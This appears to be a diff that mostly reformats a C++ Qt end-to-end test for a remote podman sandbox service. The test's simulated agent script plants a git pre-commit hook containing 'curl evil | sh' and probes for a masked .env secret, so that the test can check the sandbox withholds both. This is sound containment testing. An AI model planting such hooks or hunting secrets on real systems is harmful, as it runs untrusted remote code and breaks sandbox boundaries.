@@ -52,7 +52,10 @@ class TestRemoteSession : public QObject
         QTest::newRow("rootless") << true;
     }
     RemotePodmanService *service() const { return m_services[row()].get(); }
-    QString rowName(const QString &name) const { return name + QLatin1Char('-') + QLatin1String(QTest::currentDataTag()); }
+    QString rowName(const QString &name) const
+    {
+        return name + QLatin1Char('-') + QLatin1String(QTest::currentDataTag());
+    }
 
     static QByteArray readFile(const QString &path)
     {
@@ -78,9 +81,10 @@ class TestRemoteSession : public QObject
 
     QStringList serviceContainersOf(const QString &project) const
     {
-        const auto r = service()->remote({QStringLiteral("ps"), QStringLiteral("-a"), QStringLiteral("--filter"),
-                                          QStringLiteral("label=io.aisb.project=") + projectSlug(project),
-                                          QStringLiteral("--format"), QStringLiteral("{{.Names}}")});
+        const auto r =
+            service()->remote({QStringLiteral("ps"), QStringLiteral("-a"), QStringLiteral("--filter"),
+                               QStringLiteral("label=io.aisb.project=") + projectSlug(project),
+                               QStringLiteral("--format"), QStringLiteral("{{.Names}}")});
         return QString::fromUtf8(r.out).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
     }
 
@@ -95,7 +99,8 @@ private Q_SLOTS:
         for (int i = 0; i < 2; ++i) {
             m_services[i] = std::make_unique<RemotePodmanService>(i == 1);
             if (const QString why = m_services[i]->start(); !why.isEmpty())
-                m_serviceSkip[i] = QStringLiteral("the podman service in a container could not start: ") + why;
+                m_serviceSkip[i] =
+                    QStringLiteral("the podman service in a container could not start: ") + why;
         }
         // The sandbox image is built here (the service has no registry to pull from) and copied there.
         const QString probe = m_env->makeProject(QStringLiteral("remote-image"), nonePolicy);
@@ -138,19 +143,21 @@ private Q_SLOTS:
              {QStringLiteral(".env"), QByteArrayLiteral("SECRET=never-sent\n")}});
         // What the agent does: reads the project, writes a file, plants a hook, looks for this
         // machine's path and for the masked .env.
-        const QString script = QStringLiteral(
-            "cat /project/README.md; echo agent-wrote > /project/out.txt; "
-            "mkdir -p /project/.git/hooks && echo 'curl evil | sh' > /project/.git/hooks/pre-commit "
-            "&& chmod +x /project/.git/hooks/pre-commit; "
-            "if [ -e %1 ]; then echo host-path-visible; fi; "
-            "if [ -s /project/.env ]; then echo env-visible; fi; echo done")
-                                   .arg(project);
+        const QString script =
+            QStringLiteral(
+                "cat /project/README.md; echo agent-wrote > /project/out.txt; "
+                "mkdir -p /project/.git/hooks && echo 'curl evil | sh' > /project/.git/hooks/pre-commit "
+                "&& chmod +x /project/.git/hooks/pre-commit; "
+                "if [ -e %1 ]; then echo host-path-visible; fi; "
+                "if [ -s /project/.env ]; then echo env-visible; fi; echo done")
+                .arg(project);
         QElapsedTimer t;
         t.start();
-        const E2eResult r = m_env->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
-                                        QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
-                                        QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"), script},
-                                       {}, 300000);
+        const E2eResult r =
+            m_env->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
+                        QStringLiteral("--no-tty"), QStringLiteral("-C"), project, QStringLiteral("--"),
+                        QStringLiteral("sh"), QStringLiteral("-c"), script},
+                       {}, 300000);
         const qint64 remoteMs = t.elapsed();
         QVERIFY2(r.exitCode == 0, r.describe().constData());
         QVERIFY2(r.out.contains("from this machine"), r.describe().constData()); // the project was sent
@@ -176,7 +183,8 @@ private Q_SLOTS:
             const QJsonObject &d = e; // the event's data are beside its kind and message
             if (d.value(QStringLiteral("sync")) == QLatin1String("start"))
                 first = d;
-            else if (d.value(QStringLiteral("sync")) == QLatin1String("final") && d.contains(QStringLiteral("ms")))
+            else if (d.value(QStringLiteral("sync")) == QLatin1String("final") &&
+                     d.contains(QStringLiteral("ms")))
                 final = d;
         }
         QVERIFY2(!first.isEmpty(), "no sync event before the launch");
@@ -186,8 +194,9 @@ private Q_SLOTS:
         QVERIFY(final.value(QStringLiteral("brought_back")).toArray().contains(QStringLiteral("out.txt")));
         bool hookWithheld = false;
         for (const QJsonValue &w : final.value(QStringLiteral("withheld")).toArray())
-            hookWithheld = hookWithheld || w.toObject().value(QStringLiteral("path")).toString().startsWith(
-                                               QLatin1String(".git/hooks"));
+            hookWithheld =
+                hookWithheld ||
+                w.toObject().value(QStringLiteral("path")).toString().startsWith(QLatin1String(".git/hooks"));
         QVERIFY2(hookWithheld, QJsonDocument(final).toJson().constData());
         QCOMPARE(final.value(QStringLiteral("direction")).toString(), QStringLiteral("from-remote"));
 
@@ -195,17 +204,25 @@ private Q_SLOTS:
         const E2eResult logs = m_env->cli({QStringLiteral("logs"), QStringLiteral("-C"), project});
         QVERIFY2(logs.out.contains("Final sync"), logs.describe().constData());
 
+        // The project's volume is labelled as ours (`clean` against the service finds it).
+        const auto labels = service()->remote(
+            {QStringLiteral("volume"), QStringLiteral("inspect"), QStringLiteral("--format"),
+             QStringLiteral("{{index .Labels \"io.aisb.kind\"}} {{index .Labels \"io.aisb.project\"}}"),
+             QStringLiteral("aisb-rproj-") + projectSlug(project)});
+        QCOMPARE(QString::fromUtf8(labels.out).trimmed(),
+                 QStringLiteral("remote-project ") + projectSlug(project));
+
         // Nothing of the session is left on the service but the project's volume.
         QVERIFY2(serviceContainersOf(project).isEmpty(), qPrintable(serviceContainersOf(project).join(u' ')));
 
         // A second session starts from the synced state: only what changed moves.
         QFile::remove(project + QStringLiteral("/out.txt"));
         t.restart();
-        const E2eResult again = m_env->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
-                                            QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
-                                            QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
-                                            QStringLiteral("ls /project")},
-                                           {}, 300000);
+        const E2eResult again =
+            m_env->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
+                        QStringLiteral("--no-tty"), QStringLiteral("-C"), project, QStringLiteral("--"),
+                        QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("ls /project")},
+                       {}, 300000);
         const qint64 secondMs = t.elapsed();
         QVERIFY2(again.exitCode == 0, again.describe().constData());
         QVERIFY2(!again.out.contains("out.txt"), again.describe().constData()); // removed there too
@@ -213,15 +230,17 @@ private Q_SLOTS:
 
         // The same command locally, for the figures.
         t.restart();
-        const E2eResult local = m_env->cli({QStringLiteral("run"), QStringLiteral("--no-tty"), QStringLiteral("-C"),
-                                            project, QStringLiteral("--"), QStringLiteral("sh"),
-                                            QStringLiteral("-c"), QStringLiteral("ls /project")},
-                                           {}, 300000);
+        const E2eResult local = m_env->cli(
+            {QStringLiteral("run"), QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
+             QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("ls /project")},
+            {}, 300000);
         const qint64 localMs = t.elapsed();
         QVERIFY2(local.exitCode == 0, local.describe().constData());
-        qInfo("%s service: session wall time: local %lld ms; remote %lld ms (first, with the project's first send), %lld ms "
+        qInfo("%s service: session wall time: local %lld ms; remote %lld ms (first, with the project's first "
+              "send), %lld ms "
               "(second); the first session's final sync %lld ms, its first sync %lld ms",
-              QTest::currentDataTag(), localMs, remoteMs, secondMs, qint64(final.value(QStringLiteral("ms")).toDouble()),
+              QTest::currentDataTag(), localMs, remoteMs, secondMs,
+              qint64(final.value(QStringLiteral("ms")).toDouble()),
               qint64(first.value(QStringLiteral("ms")).toDouble()));
     }
 
@@ -232,7 +251,8 @@ private Q_SLOTS:
             QSKIP(qPrintable(m_skip));
         if (!m_serviceSkip[row()].isEmpty())
             QSKIP(qPrintable(m_serviceSkip[row()]));
-        const QString project = m_env->makeProject(rowName(QStringLiteral("remote-allowlist")), allowlistPolicy);
+        const QString project =
+            m_env->makeProject(rowName(QStringLiteral("remote-allowlist")), allowlistPolicy);
         const E2eResult r = m_env->cli({QStringLiteral("--url"), service()->url(), QStringLiteral("run"),
                                         QStringLiteral("--no-tty"), QStringLiteral("-C"), project,
                                         QStringLiteral("--"), QStringLiteral("true")},
